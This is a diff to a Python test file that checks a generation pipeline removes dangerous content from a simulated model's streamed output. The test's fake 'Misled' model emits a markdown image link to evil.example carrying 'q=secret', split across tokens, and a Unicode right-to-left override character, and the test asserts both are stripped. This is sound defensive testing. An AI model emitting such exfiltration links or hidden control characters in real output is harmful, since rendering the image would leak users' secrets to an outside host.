@@ -50,9 +50,9 @@ def test_a_cancelled_generation_ends_the_call_at_the_provider() -> None:
 def test_what_a_model_must_not_carry_out_is_in_no_token_and_no_sentence() -> None:
     class Misled(Model):
         def answer(self, prompt: Prompt) -> Iterator[Delta]:
-            yield from ("The door is shut. ![See](https://evil", ".example/?q=secret) Indeed", ".\u202e")
+            yield from ("It is certain. ![See](https://evil", ".example/?q=secret) Indeed", ".\u202e")
             yield Usage("test", "fixed")
 
     pieces = list(generate(Misled(), PROMPT, lambda: False))
-    assert "".join(piece.text for piece in pieces if isinstance(piece, Token)) == "The door is shut. See Indeed."
-    assert [piece.text for piece in pieces if isinstance(piece, Sentence)] == ["The door is shut.", "See Indeed."]
+    assert "".join(piece.text for piece in pieces if isinstance(piece, Token)) == "It is certain. See Indeed."
+    assert [piece.text for piece in pieces if isinstance(piece, Sentence)] == ["It is certain.", "See Indeed."]
